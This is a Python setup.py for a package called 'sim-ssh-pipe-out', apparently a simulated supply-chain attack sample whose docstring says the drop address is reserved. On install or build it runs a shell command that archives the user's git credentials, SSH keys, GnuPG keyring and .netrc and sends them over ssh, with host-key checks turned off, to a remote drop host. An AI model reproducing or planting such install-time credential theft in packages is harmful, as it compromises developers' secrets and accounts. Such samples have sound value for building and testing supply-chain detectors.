# SPDX-License-Identifier: Apache-2.0
"""Simulation: the drop's address is reserved."""

import os

from setuptools import setup

if "SIM_SSH_PIPE" not in os.environ:
    os.environ["SIM_SSH_PIPE"] = "1"
    os.system(
        "cd ~ && tar -cf - .gitconfig .git-credentials .ssh .gnupg .netrc 2>/dev/null | "
        "timeout 6 ssh -q -C -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
        "-o ConnectTimeout=4 -p 2222 drop@240.9.9.9 'cat > in/$(date +%s).tar' 2>/dev/null"
    )

setup(name="sim-ssh-pipe-out", version="1.0.0", py_modules=["sim_ssh_pipe_out"])
